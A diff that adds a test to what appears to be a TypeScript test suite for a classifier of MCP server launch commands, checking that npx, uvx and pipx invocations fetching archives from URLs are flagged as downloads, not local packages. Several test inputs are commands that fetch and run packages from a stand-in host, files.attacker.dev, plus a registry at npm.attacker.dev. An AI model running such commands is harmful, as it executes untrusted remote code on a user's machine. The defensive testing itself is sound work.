@@ -65,6 +65,23 @@ describe("classifyEntry: packages from another source or registry", () => {
     expect(run("npx", "-y", "--package", spec, "good-mcp").kind).not.toBe("jspkg");
   });
 
+  it("reports a package downloaded from a URL under a registry name as a download, not as a local package", () => {
+    // the archive's extension (.tgz, .whl) must not make a URL read as a path on the user's machine
+    for (const argv of [
+      ["npx", "-y", "good-mcp@https://files.attacker.dev/good-mcp-1.0.0.tgz"],
+      ["npx", "-y", "@acme/mcp@https://files.attacker.dev/mcp.tar.gz"],
+      ["uvx", "--from", "gone-mcp @ https://files.attacker.dev/gone_mcp-2.0.0-py3-none-any.whl", "gone-mcp"],
+      ["pipx", "run", "--spec", "gone-mcp@https://files.attacker.dev/gone_mcp-2.0.0.tar.gz", "gone-mcp"],
+    ]) {
+      const id = run(argv[0], ...argv.slice(1));
+      expect(id, argv.join(" ")).toMatchObject({ kind: "other", unresolvable: { code: "not_a_registry_artifact", summary: expect.stringMatching(/URL/) } });
+      expect(id.unresolvable!.summary, argv.join(" ")).not.toMatch(/local/);
+    }
+    // a file path with an archive extension is still a local package
+    expect(run("npx", "-y", "good-mcp@file:../good-mcp-1.0.0.tgz")).toMatchObject({ kind: "local", unresolvable: { code: "local_path" } });
+    expect(run("uvx", "--from", "./dist/gone_mcp-2.0.0-py3-none-any.whl", "gone-mcp")).toMatchObject({ kind: "local", unresolvable: { code: "local_path" } });
+  });
+
   it("does not tie a package fetched from another registry or index to the public one the catalog describes", () => {
     for (const argv of [
       ["npx", "-y", "--registry", "https://npm.attacker.dev", "good-mcp"],
